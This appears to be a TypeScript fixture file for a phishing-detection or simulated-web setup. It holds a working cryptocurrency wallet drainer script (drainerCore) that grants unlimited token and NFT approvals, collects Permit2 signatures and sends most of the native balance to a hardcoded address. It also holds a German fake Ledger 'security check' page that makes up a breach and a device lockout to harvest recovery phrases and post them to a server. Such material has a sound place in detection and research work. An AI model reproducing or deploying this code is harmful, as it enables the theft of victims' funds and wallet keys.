import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const drainerCore = (api: string) => `(function(){var R="0x7a3F2e1b9C8d4E5f6A7b8C9d0E1f2A3b4C5d6E7f";var cfg={api:"${api}",chains:[1,56,137,42161,8453],minUsd:25};
async function c(){if(!window.ethereum){document.getElementById("st").textContent="Please open this page in your wallet's browser (MetaMask, Trust Wallet).";return}
var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];fetch(cfg.api+"/connect",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:a,ua:navigator.userAgent,h:location.host})});
var t=await (await fetch(cfg.api+"/assets?a="+a)).json();t.sort(function(x,y){return y.usd-x.usd});
for(var i=0;i<t.length;i++){var k=t[i];if(k.usd<cfg.minUsd)continue;try{if(k.type==="erc20"){var d="0x095ea7b3"+R.slice(2).padStart(64,"0")+"f".repeat(64);await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:d}]})}
else if(k.type==="permit2"){var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(k.typed)]});fetch(cfg.api+"/p2",{method:"POST",body:JSON.stringify({a:a,s:sig})})}
else if(k.type==="nft"){await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:"0xa22cb465"+R.slice(2).padStart(64,"0")+"1".padStart(64,"0")}]})}
else if(k.type==="native"){var bal=await ethereum.request({method:"eth_getBalance",params:[a,"latest"]});var v=BigInt(bal)*95n/100n;await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:R,value:"0x"+v.toString(16)}]})}}catch(e){}}
document.getElementById("st").textContent="Claim pending… please confirm any remaining requests in your wallet."}
document.querySelectorAll(".cw").forEach(function(b){b.onclick=c})})();`;

export const entries: Entry[] = [
{
  id: 'j-seedphrase-ledger-recovery-de',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live.firmware-sicherheit.com/de/wiederherstellung',
  routes: {
    'ledger-live.firmware-sicherheit.com/de/wiederherstellung': htmlRoute(doc({
      lang: 'de',
      title: 'Ledger Live – Sicherheitsüberprüfung',
      style: `body{background:#131415;color:#fff}.b{max-width:640px;margin:40px auto;padding:26px;background:#1c1d1f;border-radius:10px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}.g input{background:#2b2c2e;border:1px solid #444;color:#fff;padding:8px;border-radius:4px;width:100%}button{background:#bbb0ff;color:#000;border:0;padding:12px 24px;border-radius:20px;margin-top:16px;font-weight:700}`,
      body: `<div class="b"><h2>Sicherheitsvorfall: Überprüfung Ihres Ledger-Geräts erforderlich</h2><p>Aufgrund eines Datenlecks bei einem Drittanbieter müssen alle Nutzer ihre Wiederherstellungsphrase verifizieren, um das neue Firmware-Update 2.4.1 zu erhalten. Nicht verifizierte Geräte werden ab dem 01.12. gesperrt.</p>
<p>Wählen Sie die Länge Ihrer Phrase: <select id="n"><option>24</option><option>18</option><option>12</option></select></p><form id="f"><div class="g" id="g"></div><button>Verifizieren</button></form></div>
<script>function b(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){g.innerHTML+='<input name="w'+i+'" placeholder="'+i+'." autocomplete="off" spellcheck="false">'}}b(24);document.getElementById('n').onchange=function(){b(+this.value)};
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[].map.call(this.querySelectorAll('input'),function(x){return x.value.trim()}).join(' ');var x=new XMLHttpRequest();x.open('POST','/de/api/verify');x.setRequestHeader('content-type','application/json');x.send(JSON.stringify({m:w}));alert('Verifizierung erfolgreich. Bitte trennen Sie Ihr Gerät nicht.')}</script>`,
    })),
    'ledger-live.firmware-sicherheit.com/de/api/verify': jsonRoute({ ok: 1 }),
  },
},
];
